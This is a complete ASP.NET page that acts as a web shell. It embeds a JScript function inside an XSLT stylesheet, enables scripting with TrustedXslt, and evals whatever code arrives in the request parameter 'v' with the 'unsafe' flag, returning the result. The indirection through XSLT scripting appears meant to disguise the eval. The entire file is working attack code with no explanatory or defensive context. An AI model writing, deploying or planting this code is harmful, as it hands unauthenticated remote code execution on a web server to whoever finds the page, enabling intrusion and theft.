<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Xml" %>
<%@ Import Namespace="System.Xml.Xsl" %>
<%
string doc = "<?xml version='1.0'?><r>1</r>";
string sheet = @"<?xml version='1.0'?>
<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform' xmlns:msxsl='urn:schemas-microsoft-com:xslt' xmlns:u='urn:u'>
  <msxsl:script language='JScript' implements-prefix='u'>
    function go() { var q = System.Web.HttpContext.Current.Request; return eval(q.Item['v'], 'unsafe'); }
  </msxsl:script>
  <xsl:template match='/r'><xsl:value-of select='u:go()'/></xsl:template>
</xsl:stylesheet>";
XmlDocument x = new XmlDocument(); x.LoadXml(doc);
XmlDocument s = new XmlDocument(); s.LoadXml(sheet);
XslCompiledTransform t = new XslCompiledTransform();
t.Load(s, XsltSettings.TrustedXslt, new XmlUrlResolver());
StringWriter w = new StringWriter();
t.Transform(x, null, w);
Response.Write(w.ToString());
%>
